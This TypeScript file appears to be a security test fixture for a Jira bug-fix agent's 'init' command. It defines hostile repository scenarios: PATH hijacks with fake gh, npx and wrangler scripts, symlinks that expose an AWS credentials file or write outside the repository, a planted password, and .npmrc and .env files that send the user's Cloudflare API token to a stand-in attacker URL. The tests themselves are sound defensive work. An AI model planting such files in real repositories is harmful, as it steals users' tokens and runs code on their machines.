import { existsSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { delimiter, join } from 'node:path';
import type { Clone } from '../clone.ts';
import { secretsOfPerson } from '../clone-people.ts';
import { wranglerOf } from '../clone-programs.ts';

/** Answers to everything that has no other answer. */
const answers = ['--trigger', 'webhook', '--jql', 'project = SHOP'];

/** A clone in which a person starts `init`, with further options. */
function initIn(clone: Omit<Clone, 'command' | 'args' | 'agrees'>, ...options: string[]) {
  return {
    ...{ ...clone, command: 'init', agrees: options.includes('--yes') },
    args: [...answers, '--action', 'acme/jira-bug-fix-agent@v1', ...options],
    // Without a token, Jira is not asked.
    env: (people) => ({ JIRA_TOKEN: '', ...clone.env?.(people) }),
  } satisfies Clone;
}

const questions = [
  ["Client ID of the agent's GitHub App", '\r'],
  ["token of the agent's Jira account", '\r'],
  ['waits for a review', '\r'],
  ['run the commands?', '\x1b[B\x1b[B\r'],
] as const;

let next = 0;

/** Clones in which a person runs `init`. */
export default {
  'build-of-clone': initIn(
    {
      aim: 'have a command run by the deployment, in the configuration of a Worker that the clone brings',
      wall: 'configuration',
      env: wranglerOf,
      files: ({ mark }) => ({
        '.jira-bug-fix/wrangler.toml': `name = "shop"\nmain = "worker.js"\n[build]\ncommand = "${mark}"\n`,
      }),
    },
    '--yes',
  ),
  'gh-in-clone': initIn(
    {
      aim: 'have their own gh run by a dry run, because the person looks for programs in the folder that they are in',
      wall: 'started',
      installed: ['npx'],
      env: () => ({ PATH: ['', '.', process.env.PATH].join(delimiter) }),
      files: ({ mark }) => ({ gh: { text: `#!/bin/sh\n${mark}\n`, executable: true } }),
    },
    '--dry-run',
  ),
  'linked-secret': initIn(
    {
      aim: 'have a file of the person printed, to which the workflow is a link',
      wall: 'regular',
      files: () => ({}),
      prepare: async (root, { folder }) => {
        await writeFile(join(folder, 'credentials'), secretsOfPerson.AWS_SECRET_ACCESS_KEY);
        await mkdir(join(root, '.github/workflows'), { recursive: true });
        await symlink('../../../credentials', join(root, '.github/workflows/jira-bug-fix.yml'));
      },
    },
    '--dry-run',
  ),
  'linked-workflows': initIn(
    {
      aim: 'have a file written outside of the clone, through a folder that is a link',
      wall: 'regular',
      files: () => ({ '.github/CODEOWNERS': '* @acme\n' }),
      prepare: async (root, { folder }) => {
        await mkdir(join(folder, 'outside'));
        await symlink('../../outside', join(root, '.github/workflows'));
      },
      breaches: ({ people }) =>
        existsSync(join(people.folder, 'outside/jira-bug-fix.yml'))
          ? ['a file was written outside of the clone']
          : [],
    },
    '--yes',
  ),
  'no-in-clone': initIn({
    aim: 'have their commands in the workflow, although the person reads them and says no',
    wall: 'consent',
    answer: (asked) => {
      const [question, keys] = questions[next] ?? questions[0];
      if (!asked.includes(question)) return undefined;
      next = (next + 1) % questions.length;
      return keys;
    },
    files: ({ mark }) => ({
      'package.json': JSON.stringify({ scripts: { test: mark, lint: mark } }),
    }),
  }),
  'npx-of-clone': initIn(
    {
      aim: 'have their own npx run, because npx puts the programs of the clone first when it starts init',
      wall: 'started',
      env: ({ folder }) => ({
        PATH: [`${folder}/shop/node_modules/.bin`, process.env.PATH].join(delimiter),
      }),
      files: ({ mark }) => ({
        'node_modules/.bin/npx': { text: `#!/bin/sh\n${mark}\n`, executable: true },
      }),
    },
    '--yes',
  ),
  'password-of-clone': initIn(
    {
      aim: 'know the password of the status page, which a configuration in the clone sets',
      wall: 'configuration',
      files: () => ({
        '.jira-bug-fix/wrangler.toml': '[vars]\nSTATUS_PASSWORD = "known-to-the-attacker"\n',
      }),
      breaches: ({ after }) =>
        after.get('.jira-bug-fix/wrangler.toml')?.includes('known-to-the-attacker')
          ? ['the Worker gets a password that the attacker knows']
          : [],
    },
    '--yes',
    '--force',
  ),
  'registry-of-clone': initIn(
    {
      aim: 'get a token of the person, by a registry in the settings of npm that a clone brings',
      wall: 'started',
      installed: ['gh'],
      files: ({ stranger }) => ({
        '.npmrc': [
          `registry=${stranger.url}/`,
          `${stranger.url.replace('http:', '')}/:_authToken=\${CLOUDFLARE_API_TOKEN}`,
        ].join('\n'),
        'package.json': '{ "name": "shop" }',
      }),
    },
    '--yes',
  ),
  'settings-by-npx': initIn(
    {
      aim: 'choose the registry, because npx hands the settings of the clone on to init as variables',
      wall: 'started',
      installed: ['gh'],
      env: ({ folder, stranger }) => ({
        npm_config_registry: `${stranger.url}/`,
        npm_config_cache: `${folder}/shop/cache`,
        npm_config_userconfig: `${folder}/shop/user.npmrc`,
      }),
      files: ({ stranger }) => ({ 'user.npmrc': `registry=${stranger.url}/\n` }),
    },
    '--yes',
  ),
  'variables-of-clone': initIn(
    {
      aim: 'send wrangler with the token of the person to their own address, by a file of variables',
      wall: 'started',
      env: wranglerOf,
      files: ({ stranger }) => ({
        '.env': `CLOUDFLARE_API_BASE_URL=${stranger.url}\nWRANGLER_LOG=debug\n`,
        '.dev.vars': `CLOUDFLARE_API_BASE_URL=${stranger.url}\n`,
      }),
    },
    '--yes',
  ),
  'wrangler-of-clone': initIn(
    {
      aim: 'have their own wrangler run, which npx finds among the packages of the clone',
      wall: 'started',
      installed: ['gh'],
      files: ({ mark }) => ({
        'package.json': '{ "dependencies": { "wrangler": "4.155.0" } }',
        'node_modules/wrangler/package.json':
          '{ "name": "wrangler", "version": "4.155.0", "bin": { "wrangler": "w.sh" } }',
        'node_modules/wrangler/w.sh': { text: `#!/bin/sh\n${mark}\n`, executable: true },
        'node_modules/.bin/readme.txt': 'programs',
      }),
      prepare: (root) => symlink('../wrangler/w.sh', join(root, 'node_modules/.bin/wrangler')),
    },
    '--yes',
  ),
} satisfies Readonly<Record<string, Clone>>;
